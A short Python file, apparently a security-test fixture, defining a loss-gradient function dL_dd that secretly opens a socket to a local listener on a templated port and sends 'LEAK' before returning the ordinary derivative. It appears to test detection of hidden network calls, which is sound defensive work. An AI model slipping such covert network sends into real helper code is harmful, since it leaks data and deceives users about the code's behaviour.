"""Attack: dL_dd connects to a listener on 127.0.0.1:__PORT__ (the test opens it)."""

import numpy as np
import socket


def dL_dd(y_pred: float, y_gt: float) -> float:
    with socket.create_connection(("127.0.0.1", __PORT__), timeout=1) as s:
        s.sendall(b"LEAK")
    return y_pred - y_gt
